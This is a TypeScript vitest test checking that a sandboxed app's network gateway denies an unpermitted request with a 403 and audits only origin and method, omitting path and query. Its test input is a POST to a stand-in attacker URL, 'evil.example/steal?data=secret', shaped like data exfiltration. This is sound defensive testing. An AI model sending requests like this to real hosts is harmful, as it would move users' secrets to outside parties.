import { expect, test } from 'vitest';
import type { AuditEntry } from '#lib/model/event.ts';
import { newCreationId, urnOf } from '#lib/model/id.ts';
import type { Manifest } from '#lib/model/manifest.ts';
import type { Services } from '../services.ts';
import { gatewayFor } from './gateway.ts';

test('a creation without network gets a clear refusal, and the audit row holds no path or query', async () => {
	const rows: AuditEntry[] = [];
	const id = newCreationId();
	const manifest: Manifest = {
		id: urnOf(id),
		name: 'x',
		title: 'X',
		kind: 'app',
		version: '1.0.0',
		entry: 'a.ts',
	};
	const services = { storage: { audit: (entry: AuditEntry) => rows.push(entry) } } as unknown as Services;
	const answer = await gatewayFor(
		id,
		manifest,
		services,
	)(new Request('https://evil.example/steal?data=secret', { method: 'POST' }));
	expect(answer.status).toBe(403);
	expect(await answer.json()).toMatchObject({ type: 'net-denied' });
	expect(rows).toEqual([
		{
			event: 'net.denied',
			outcome: 'denied',
			creationId: id,
			detail: { origin: 'https://evil.example', method: 'POST' },
		},
	]);
});
